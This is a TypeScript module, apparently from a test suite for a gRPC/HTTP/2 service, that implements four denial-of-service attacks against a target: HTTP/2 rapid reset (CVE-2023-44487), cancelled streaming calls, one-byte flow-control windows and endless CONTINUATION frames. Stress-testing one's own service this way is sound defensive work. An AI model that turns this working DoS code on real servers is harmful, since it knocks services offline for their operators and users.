// Frames of HTTP/2 that make work, or hold memory, for little.
import { setTimeout as sleep } from "node:timers/promises";
import { create, toBinary } from "@bufbuild/protobuf";
import { StreamReceiptsRequestSchema } from "../../../gen/stoa/v1/ledger_service_pb.js";
import { GetPostRequestSchema } from "../../../gen/stoa/v1/post_service_pb.js";
import {
  END_HEADERS,
  END_STREAM,
  frame,
  frameType,
  get,
  headerBlock,
  INITIAL_WINDOW_SIZE,
  PREFACE,
  rstStream,
  settings,
} from "../../support/http2-frames.ts";
import { pour } from "./requests.ts";
import { type Attack, clientAddress, connectTls, count, keepOpen } from "./target.ts";

const CANCEL = 8;
const getFirst = toBinary(GetPostRequestSchema, create(GetPostRequestSchema, { id: 1n }));
const followAll = toBinary(StreamReceiptsRequestSchema, create(StreamReceiptsRequestSchema, { follow: true }));
const site = { ":scheme": "https", ":authority": "localhost" };

/** Requests that are reset at once (CVE-2023-44487): reads, and complete calls of gRPC. */
export const rapidResets: Attack = (target) =>
  keepOpen(
    10,
    (n) => connectTls(target, clientAddress(n), "h2"),
    (socket, n) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings()]));
      const request = n % 2 === 0 ? readOf : (stream: number) => callOf(stream);
      let stream = -1;
      pour(socket, () => {
        const pairs = Array.from({ length: 50 }, () => {
          stream += 2;
          count(target, "requests that were reset");
          return Buffer.concat([request(stream), rstStream(stream, CANCEL)]);
        });
        return Buffer.concat(pairs);
      });
    },
  );

const readOf = (stream: number): Buffer => get(stream, "/api/v1/feed", site);

/** A complete call of gRPC. By default it is GetPost of the post 1. */
function callOf(stream: number, path = "/stoa.v1.PostService/GetPost", request = getFirst): Buffer {
  const fields = { ...site, "content-type": "application/grpc", te: "trailers" };
  const head = headerBlock("POST", path, fields);
  const message = Buffer.concat([Buffer.from([0, 0, 0, 0, request.length]), request]);
  return Buffer.concat([
    frame(frameType.headers, END_HEADERS, stream, head),
    frame(frameType.data, END_STREAM, stream, message),
  ]);
}

/** Streams of receipts by gRPC that their clients cancel soon: 400 a second, each begun in earnest. */
export const cancelledCalls: Attack = (target) =>
  keepOpen(
    20,
    (n) => connectTls(target, clientAddress(n), "h2"),
    (socket) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings()]));
      let stream = -1;
      const timer = setInterval(() => {
        if (stream > 0) socket.write(rstStream(stream, CANCEL));
        stream += 2;
        socket.write(callOf(stream, "/stoa.v1.LedgerService/StreamReceipts", followAll));
        count(target, "cancelled calls");
      }, 50);
      socket.once("close", () => clearInterval(timer));
    },
  );

/** Replies on many streams, with a window for one byte of each. They do not begin all at once: that would be a flood. */
export const smallWindows: Attack = (target) =>
  keepOpen(
    20,
    (n) => connectTls(target, clientAddress(n), "h2"),
    (socket, n) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings({ [INITIAL_WINDOW_SIZE]: 1 })]));
      const request =
        n % 2 === 0
          ? (stream: number) => get(stream, "/api/v1/feed?limit=5", site)
          : (stream: number) => callOf(stream);
      for (let stream = 1; stream < 100; stream += 2) {
        count(target, "streams with a small window");
        socket.write(request(stream));
      }
      return sleep(100);
    },
    1,
  );

/** A head that goes on and on (CONTINUATION), as quickly as it is taken. */
export const endlessHeads: Attack = (target) =>
  keepOpen(
    20,
    (n) => connectTls(target, clientAddress(n), "h2"),
    (socket) => {
      const head = frame(frameType.headers, END_STREAM, 1, headerBlock("GET", "/", site));
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings(), head]));
      const part = frame(
        frameType.continuation,
        0,
        1,
        headerBlock("GET", "/", { x: "x".repeat(8_000) }).subarray(-8_003),
      );
      pour(socket, () => {
        count(target, "frames of endless heads");
        return part;
      });
    },
  );
